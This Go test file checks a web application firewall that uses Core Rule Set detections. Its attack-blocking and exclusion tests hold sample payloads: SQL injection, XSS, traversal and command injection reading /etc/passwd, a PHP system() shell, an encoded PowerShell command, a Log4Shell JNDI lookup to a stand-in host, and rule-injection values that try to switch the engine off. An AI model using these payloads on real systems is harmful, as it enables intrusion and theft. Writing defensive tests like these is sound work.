package inspect

import (
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/rampart-sec/rampart/runtime/waf/config"
)

func TestCRSBlocksAttacksAtParanoiaLevel1(t *testing.T) {
	in := inspectorFor(t, nil)
	tests := []struct {
		name   string
		query  string // decoded name=value, sent URL-encoded
		ruleID int    // one rule that must be among the matches
	}{
		{"sqli tautology", "id=1' OR '1'='1", 942100},
		{"sqli union", "id=1 UNION SELECT password FROM users", 942100},
		{"xss script", "q=<script>alert(1)</script>", 941100},
		{"xss event handler", "q=<img src=x onerror=alert(1)>", 941100},
		{"lfi traversal", "file=../../../../etc/passwd", 930100},
		{"lfi os file", "file=/etc/passwd", 930120},
		{"rce unix", "cmd=;cat /etc/passwd", 932160},
		{"rce windows", "cmd=| powershell -enc aQBlAHgA", 932120},
		{"php injection", "x=<?php system($_GET['c']); ?>", 933100},
		{"java", "x=${jndi:ldap://evil.example/a}", 944150},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			name, value, _ := strings.Cut(tt.query, "=")
			r := newRequest(http.MethodGet, "/search?"+name+"="+url.QueryEscape(value), "", nil)
			v := inspect(in, r, nil)
			if !v.Blocked || v.Status != http.StatusForbidden {
				t.Errorf("blocked %v status %d, want blocked with 403; matches %+v", v.Blocked, v.Status, v.Matches)
			}
			if !slices.Contains(v.RuleIDs(), tt.ruleID) {
				t.Errorf("rule ids %v lack %d", v.RuleIDs(), tt.ruleID)
			}
			if !slices.Contains(v.RuleIDs(), 949110) {
				t.Errorf("rule ids %v lack the inbound anomaly evaluation 949110", v.RuleIDs())
			}
			if v.InboundScore < 5 {
				t.Errorf("inbound anomaly score %d, want at least the threshold 5", v.InboundScore)
			}
			for _, m := range v.Matches {
				if m.Message == "" && m.RuleID != 0 {
					t.Errorf("rule %d matched without a message", m.RuleID)
				}
			}
		})
	}
}

func TestCRSPassesBenignTraffic(t *testing.T) {
	in := inspectorFor(t, nil)
	order := orderJSON(t)
	tests := []struct {
		name string
		req  *http.Request
		body []byte
	}{
		{"get with arguments", newRequest(http.MethodGet, "/products/42/reviews?sort=price&order=asc&page=3&q=red+running+shoes", "", nil), nil},
		{"apostrophe in a name", newRequest(http.MethodGet, "/?name="+url.QueryEscape("O'Brien"), "", nil), nil},
		{"words that look like sql", newRequest(http.MethodGet, "/?q=select+a+product+near+union+station", "", nil), nil},
		{"json order", newRequest(http.MethodPost, "/api/orders", "application/json", order), order},
		{"form post", newRequest(http.MethodPost, "/login", "application/x-www-form-urlencoded", []byte("user=anna&remember=on")), []byte("user=anna&remember=on")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if v := inspect(in, tt.req, tt.body); v.Blocked || v.Matched() {
				t.Errorf("benign request: blocked %v, matches %+v", v.Blocked, v.Matches)
			}
		})
	}
}

func TestBodiesAreInspected(t *testing.T) {
	in := inspectorFor(t, nil)
	tests := []struct {
		name, contentType, body string
		status                  int
	}{
		{"json", "application/json", `{"user":{"name":"x' OR 1=1--"}}`, http.StatusForbidden},
		{"urlencoded", "application/x-www-form-urlencoded", "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E", http.StatusForbidden},
		{"multipart", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--XyZ--\r\n", http.StatusForbidden},
		{"invalid json", "application/json", `{"a":`, http.StatusBadRequest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newRequest(http.MethodPost, "/api", tt.contentType, []byte(tt.body))
			v := inspect(in, r, []byte(tt.body))
			if !v.Blocked || v.Status != tt.status {
				t.Errorf("blocked %v status %d, want %d; matches %+v", v.Blocked, v.Status, tt.status, v.Matches)
			}
		})
	}
}

func TestDetectModeNeverBlocks(t *testing.T) {
	in := inspectorFor(t, &config.Policy{Mode: "detect"})
	v := inspect(in, newRequest(http.MethodGet, "/?q="+url.QueryEscape("<script>alert(1)</script>"), "", nil), nil)
	if v.Blocked {
		t.Fatal("detect mode blocked")
	}
	if !slices.Contains(v.RuleIDs(), 941100) || !slices.Contains(v.RuleIDs(), 949110) {
		t.Errorf("detect mode must still report the matches, got %v", v.RuleIDs())
	}
}

func TestParanoiaAndThresholds(t *testing.T) {
	// 920350 (Host is an IP address) is a warning: 3 points, under the default 5.
	r := func() *http.Request {
		r := newRequest(http.MethodGet, "/", "", nil)
		r.Host = "127.0.0.1"
		return r
	}
	v := inspect(inspectorFor(t, nil), r(), nil)
	if v.Blocked || !slices.Contains(v.RuleIDs(), 920350) {
		t.Fatalf("default threshold: blocked %v, rules %v; want 920350 reported, not blocked", v.Blocked, v.RuleIDs())
	}
	v = inspect(inspectorFor(t, &config.Policy{InboundThreshold: 3}), r(), nil)
	if !v.Blocked {
		t.Errorf("threshold 3: a 3-point request must be blocked, rules %v score %d", v.RuleIDs(), v.InboundScore)
	}

	// 942200-class comment obfuscation only runs from paranoia level 2.
	pl2 := newRequest(http.MethodGet, "/?q="+url.QueryEscape("a=1,b=2 -- comment"), "", nil)
	if v := inspect(inspectorFor(t, nil), pl2, nil); v.Matched() {
		t.Fatalf("paranoia level 1 matched %v", v.RuleIDs())
	}
	if v := inspect(inspectorFor(t, &config.Policy{ParanoiaLevel: 4}), pl2, nil); !v.Matched() {
		t.Error("paranoia level 4 matched nothing on a value level 1 lets through")
	}
}

func TestExclusions(t *testing.T) {
	sqli := "/search?q=" + url.QueryEscape("1' OR '1'='1") + "&other=fine"
	sqliOther := "/search?other=" + url.QueryEscape("1' OR '1'='1")
	tests := []struct {
		name      string
		exclusion config.Exclusion
		target    string
		blocked   bool
	}{
		{"by id", config.Exclusion{RuleIDs: []int{942100, 942180, 942200, 942260, 942300, 942340, 942370, 942390, 942430, 942440, 942521, 942522, 942550}}, sqli, false},
		{"by tag", config.Exclusion{Tags: []string{"attack-sqli"}}, sqli, false},
		{"by tag on another path", config.Exclusion{Tags: []string{"attack-sqli"}, PathPrefix: "/admin"}, sqli, true},
		{"by tag on this path", config.Exclusion{Tags: []string{"attack-sqli"}, PathPrefix: "/search"}, sqli, false},
		{"path prefix cannot be borrowed", config.Exclusion{Tags: []string{"attack-sqli"}, PathPrefix: "/public"}, "/public/../search?q=" + url.QueryEscape("1' OR '1'='1"), true},
		{"by tag for the argument", config.Exclusion{Tags: []string{"attack-sqli"}, Argument: "q"}, sqli, false},
		{"by tag for another argument", config.Exclusion{Tags: []string{"attack-sqli"}, Argument: "q"}, sqliOther, true},
		{"by id for the argument", config.Exclusion{RuleIDs: []int{942100}, Argument: "q", Tags: []string{"attack-sqli"}}, sqli, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := inspectorFor(t, &config.Policy{Exclusions: []config.Exclusion{tt.exclusion}})
			v := inspect(in, newRequest(http.MethodGet, tt.target, "", nil), nil)
			if v.Blocked != tt.blocked {
				t.Errorf("blocked %v, want %v; rules %v", v.Blocked, tt.blocked, v.RuleIDs())
			}
		})
	}
}

func TestCustomRules(t *testing.T) {
	in := inspectorFor(t, &config.Policy{CustomRules: []string{
		`SecRule REQUEST_HEADERS:X-Internal "@streq yes" "id:10001,phase:1,deny,status:403,log,msg:'internal header from outside'"`,
	}})
	r := newRequest(http.MethodGet, "/", "", nil)
	r.Header.Set("X-Internal", "yes")
	v := inspect(in, r, nil)
	if !v.Blocked || v.BlockingRuleID != 10001 || !slices.Contains(v.RuleIDs(), 10001) {
		t.Errorf("custom rule: blocked %v by %d, rules %v", v.Blocked, v.BlockingRuleID, v.RuleIDs())
	}
	for _, m := range v.Matches {
		if m.RuleID == 10001 && m.Message != "internal header from outside" {
			t.Errorf("message %q", m.Message)
		}
	}

	bad, err := PolicyFrom(&config.Policy{CustomRules: []string{`SecRule ARGS "@rx (" "id:10002,deny"`}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := New(bad); err == nil || !strings.Contains(err.Error(), "custom_rules") {
		t.Errorf("a broken custom rule must fail with a hint, got %v", err)
	}
}

func TestArgumentsLimit(t *testing.T) {
	in := inspectorFor(t, &config.Policy{ArgumentsLimit: 5})
	var q []string
	for i := range 6 {
		q = append(q, "a"+string(rune('0'+i))+"=1")
	}
	v := inspect(in, newRequest(http.MethodGet, "/?"+strings.Join(q, "&"), "", nil), nil)
	if !v.Blocked || !slices.Contains(v.RuleIDs(), ArgumentsLimitRuleID) {
		t.Errorf("6 arguments over a limit of 5: blocked %v, rules %v", v.Blocked, v.RuleIDs())
	}
	if v := inspect(in, newRequest(http.MethodGet, "/?"+strings.Join(q[:4], "&"), "", nil), nil); v.Blocked {
		t.Errorf("4 arguments under a limit of 5 blocked: %v", v.RuleIDs())
	}
}

func TestInspectsBody(t *testing.T) {
	in := inspectorFor(t, &config.Policy{UploadPaths: []string{"/upload/"}})
	tests := []struct {
		target string
		body   bool
		want   bool
	}{
		{"/api", true, true},
		{"/api", false, false},
		{"/upload/photo", true, false},
		{"/upload/../api", true, true},
	}
	for _, tt := range tests {
		var body []byte
		if tt.body {
			body = []byte("a=1")
		}
		r := newRequest(http.MethodPost, tt.target, "application/x-www-form-urlencoded", body)
		if got := in.InspectsBody(r); got != tt.want {
			t.Errorf("InspectsBody(%s, body %v) = %v, want %v", tt.target, tt.body, got, tt.want)
		}
	}
}

func TestPolicyChecks(t *testing.T) {
	bad := []config.Policy{
		{Mode: "panic"},
		{ParanoiaLevel: 5},
		{Exclusions: []config.Exclusion{{RuleIDs: []int{1}, PathPrefix: `/a" "id:1`}}},
		{Exclusions: []config.Exclusion{{RuleIDs: []int{1}, Argument: "q,ctl:ruleEngine=Off"}}},
		{Exclusions: []config.Exclusion{{Tags: []string{"a b"}}}},
	}
	for _, p := range bad {
		if _, err := PolicyFrom(&p); err == nil {
			t.Errorf("PolicyFrom(%+v) accepted a policy that must be refused", p)
		}
	}
	p, err := PolicyFrom(nil)
	if err != nil {
		t.Fatal(err)
	}
	want := Policy{Mode: ModeBlock, ParanoiaLevel: 1, InboundThreshold: 5, OutboundThreshold: 4, RequestBodyLimit: 128 << 10, ArgumentsLimit: 1000}
	if p.Mode != want.Mode || p.ParanoiaLevel != want.ParanoiaLevel || p.InboundThreshold != want.InboundThreshold ||
		p.OutboundThreshold != want.OutboundThreshold || p.RequestBodyLimit != want.RequestBodyLimit || p.ArgumentsLimit != want.ArgumentsLimit {
		t.Errorf("defaults = %+v, want %+v", p, want)
	}
}

func TestEnginesAreShared(t *testing.T) {
	a := inspectorFor(t, nil)
	p, _ := PolicyFrom(&config.Policy{UploadPaths: []string{"/files/"}}) // same rules, other site setting
	b, err := New(p)
	if err != nil {
		t.Fatal(err)
	}
	if a.engine != b.engine {
		t.Error("two policies with the same rule configuration compiled two engines")
	}
	if a.RuleCount() < 400 {
		t.Errorf("%d rules compiled, want the Core Rule Set (hundreds)", a.RuleCount())
	}
}
